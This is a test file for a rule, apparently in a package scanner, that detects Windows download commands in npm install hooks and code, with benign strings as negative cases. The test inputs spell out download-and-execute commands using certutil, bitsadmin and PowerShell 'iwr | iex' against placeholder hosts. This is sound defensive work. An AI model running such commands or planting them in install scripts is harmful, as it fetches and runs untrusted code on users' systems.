import { describe, expect, it } from 'vitest';
import { at, call, packageFacts, str } from '../rule-test-kit.js';
import { processWindowsDownload as rule } from './process-windows-download.js';

const hook = (command: string) =>
  rule.run(packageFacts({ manifest: { installScripts: { postinstall: command } } }));

describe('process-windows-download', () => {
  it.each([
    ['certutil -urlcache -split -f http://198.51.100.4/a.exe %TEMP%\\a.exe', 'high'],
    ['certutil.exe -f -urlcache https://x.invalid/p %TEMP%\\p', 'high'],
    ['bitsadmin /transfer job /download /priority high https://x.invalid/a.exe C:\\a.exe', 'high'],
    [`powershell -c "iwr https://x.invalid/s.ps1 | iex"`, 'high'],
    [`powershell -c "(New-Object Net.WebClient).DownloadFile('https://x.invalid/a','a.exe')"`, 'medium'],
    [`powershell -c "Invoke-WebRequest -Uri https://x.invalid/a -OutFile a.exe"`, 'medium'],
  ])('reports hook %s (%s confidence)', (command, confidence) => {
    expect(hook(command)).toMatchObject([{ severity: 'high', confidence }]);
  });

  it('is high/high for a spawned command, medium/medium for loose text', () => {
    const cmd = 'certutil -urlcache -f https://x.invalid/a.exe a.exe';
    const spawned = rule.run(
      packageFacts({ code: [call('child_process.exec', 'process', at('i.js', 3), [cmd])] }),
    );
    expect(spawned).toMatchObject([{ severity: 'high', confidence: 'high', line: 3 }]);
    const loose = rule.run(packageFacts({ code: [str(cmd, at('i.js', 5))] }));
    expect(loose).toMatchObject([{ severity: 'medium', confidence: 'medium' }]);
  });

  it.each([
    'certutil -hashfile package.tgz SHA256',
    'node install.js',
    'curl -fsSL https://example.invalid/x -o x',
    'Invoke-WebRequest is documented in the README',
    'bitsadmin /list',
  ])('is silent for %s', (text) => {
    expect(hook(text)).toEqual([]);
    expect(rule.run(packageFacts({ code: [str(text, at('i.js'))] }))).toEqual([]);
  });
});
